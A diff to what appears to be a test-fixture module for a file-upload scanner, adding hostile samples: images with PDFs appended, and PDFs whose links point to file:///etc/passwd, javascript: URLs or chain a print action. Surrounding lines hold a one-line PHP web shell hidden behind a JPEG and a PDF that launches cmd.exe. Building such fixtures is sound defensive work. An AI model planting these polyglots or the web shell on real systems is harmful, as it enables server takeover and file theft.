@@ -89,6 +89,11 @@ def annotated(**entries: Any) -> bytes:
         return out.getvalue()
 
 
+def linked(address: str, **more: Any) -> bytes:
+    """A PDF whose first page bears a link."""
+    return annotated(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String(address), **more))
+
+
 def with_stream(content: bytes, **entries: Any) -> bytes:
     """A PDF whose page shows a stream of its own making."""
     with pikepdf.open(BytesIO(pdf())) as document:
@@ -190,6 +195,7 @@ HOSTILE: dict[str, Hostile] = {
     "jpeg_with_an_archive_within": ("a.jpg", archive_in_a_comment, "two_kinds"),
     "jpeg_with_a_script_behind": ("a.jpg", lambda: jpeg() + b"<?php system($_GET['c']); ?>", "trailing"),
     "jpeg_with_a_film_behind": ("a.jpg", lambda: jpeg() + b"\0\0\0\x18ftypmp42" + bytes(80), "trailing"),
+    "jpeg_with_a_pdf_behind": ("a.jpg", lambda: jpeg() + pdf(), "trailing"),
     "jpeg_pixel_bomb": ("a.jpg", lambda: jpeg_of_size(60_000, 60_000), "pixels"),
     "jpeg_of_nothing": ("a.jpg", lambda: encoded("JPEG", Image.new("RGB", (1, 1))), "small"),
     "jpeg_lossless": ("a.jpg", lambda: jpeg().replace(b"\xff\xc0", b"\xff\xc3", 1), "depth"),
@@ -205,6 +211,7 @@ HOSTILE: dict[str, Hostile] = {
     ),
     "jpeg_larger_than_it_says": ("a.jpg", lambda: jpeg_of_size(240, 20), "small"),
     # PNG
+    "png_with_a_pdf_behind": ("a.png", lambda: png() + pdf(), "trailing"),
     "png_broken_off": ("a.png", lambda: png()[:-20], "truncated"),
     "png_without_an_end": ("a.png", lambda: png()[:-12], "truncated"),
     "png_with_an_archive_behind": ("a.png", lambda: png() + zipped({"a.exe": b"MZ"}), "two_kinds"),
@@ -247,9 +254,12 @@ HOSTILE: dict[str, Hostile] = {
         "action",
     ),
     "pdf_that_starts_a_program": ("a.pdf", lambda: action("Launch", F=String("cmd.exe")), "action"),
-    "pdf_with_a_link": (
+    "pdf_that_calls_an_address": ("a.pdf", lambda: action("URI", URI=String("http://a.example/")), "action"),
+    "pdf_with_a_link_to_a_file": ("a.pdf", lambda: linked("file:///etc/passwd"), "action"),
+    "pdf_with_a_link_that_is_a_script": ("a.pdf", lambda: linked("javascript:alert(1)"), "action"),
+    "pdf_with_a_link_that_goes_on": (
         "a.pdf",
-        lambda: annotated(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("http://a.example/"))),
+        lambda: linked("https://a.example/", Next=Dictionary(S=Name.Named, N=Name.Print)),
         "action",
     ),
     "pdf_that_sends_a_form": ("a.pdf", lambda: action("SubmitForm", F=String("http://a.example/")), "action"),
@@ -317,4 +327,4 @@ def content_of(name: str) -> bytes:
     return content() if callable(content) else content
 
 
-__all__ = ["EICAR", "HOSTILE", "content_of", "drawing", "with_segment"]
+__all__ = ["EICAR", "HOSTILE", "content_of", "drawing", "linked", "with_segment"]
